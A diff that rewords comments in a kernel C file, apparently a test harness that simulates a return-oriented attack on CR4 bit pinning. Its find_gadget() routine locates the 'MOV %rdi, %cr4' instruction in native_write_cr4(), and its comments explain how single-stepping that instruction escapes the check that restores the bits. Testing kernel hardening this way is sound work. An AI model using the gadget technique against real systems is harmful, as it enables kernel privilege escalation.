@@ -1,8 +1,8 @@
 // SPDX-License-Identifier: GPL-2.0-only
 /*
- * Goes on after a trap in code that is not ours, and the use of such code:
- * native_write_cr4() checks after its MOV what it wrote, and puts the bits back.
- * Who single-steps it is gone by then.
+ * Continues after a trap in the kernel's own code, and uses such code: after its MOV,
+ * native_write_cr4() checks the value that it wrote, and restores the bits. An attacker
+ * who single-steps the MOV leaves before that check.
  */
 #include <linux/irqflags.h>
 #include <linux/kdebug.h>
@@ -46,7 +46,7 @@ void landing_end(void)
 	unregister_die_notifier(&block);
 }
 
-/* MOV %rdi, %cr4 in native_write_cr4() */
+/* Finds MOV %rdi, %cr4 in native_write_cr4(). */
 static unsigned long find_gadget(void)
 {
 	static const u8 mov[] = { 0x0f, 0x22, 0xe7 };
@@ -63,7 +63,7 @@ void attack_rop(const struct attack *attack, struct attempt *a)
 {
 	unsigned long rip, gadget;
 
-	/* Looking for symbols takes mutexes. */
+	/* Look up the symbols here: that takes mutexes. */
 	local_irq_enable();
 	gadget = find_gadget();
 	local_irq_disable();
